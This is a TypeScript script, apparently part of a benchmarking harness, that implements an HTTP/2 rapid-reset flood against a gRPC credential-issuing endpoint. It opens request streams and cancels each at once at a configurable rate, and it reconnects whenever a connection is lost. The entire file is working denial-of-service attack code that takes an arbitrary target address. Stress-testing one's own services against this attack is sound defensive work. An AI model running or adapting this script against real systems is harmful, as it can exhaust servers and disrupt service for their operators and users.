import { argv } from 'node:process';
import { FRAME, frame, FrameSocket, RequestFrames } from '@callpass/bench';

// Rapid reset: `node reset.ts ADDRESS PER_SECOND SECONDS SOURCE`. Begins calls for credentials and takes each back at once, on
// one connection, and on the next as soon as that one is lost. Reports to its parent how many it has sent.

const [, , address = '', perSecond = '0', seconds = '0', localAddress = ''] = argv;
const TICK_MS = 2;
const MOST_IN_A_TICK = 500;
const begin = new RequestFrames({
  address,
  path: '/callpass.v1.CredentialService/IssueCredentials',
  message: Buffer.from([0x0a, 0x01, 0x64]), // destination d
});
const CANCEL = Buffer.from([0, 0, 0, 8]);
const outcome = { sent: 0, connections: 0, refused: 0 };

let socket: FrameSocket | undefined;
let stream = 1;
async function connect(): Promise<void> {
  try {
    const connected = await FrameSocket.open(address, { localAddress });
    connected.start({
      onStreamFrame: () => undefined,
      onGoAway: () => undefined,
      onLost: () => {
        socket = undefined;
        void connect();
      },
    });
    outcome.connections++;
    stream = 1;
    socket = connected;
  } catch {
    outcome.refused++;
    setTimeout(() => void connect(), TICK_MS);
  }
}

await connect();
const start = performance.now();
const timer = setInterval(() => {
  const elapsedMs = performance.now() - start;
  if (elapsedMs > Number(seconds) * 1000) {
    clearInterval(timer);
    process.send?.({ ...outcome, done: true }, () => process.exit());
    return;
  }
  const due = (elapsedMs / 1000) * Number(perSecond) - outcome.sent;
  const frames: Buffer[] = [];
  for (let calls = Math.min(due, MOST_IN_A_TICK); socket && calls >= 1; calls--) {
    frames.push(begin.on(stream), frame({ type: FRAME.rstStream, stream, payload: CANCEL }));
    stream += 2;
    outcome.sent++;
  }
  if (frames.length > 0) socket?.write(Buffer.concat(frames));
}, TICK_MS);
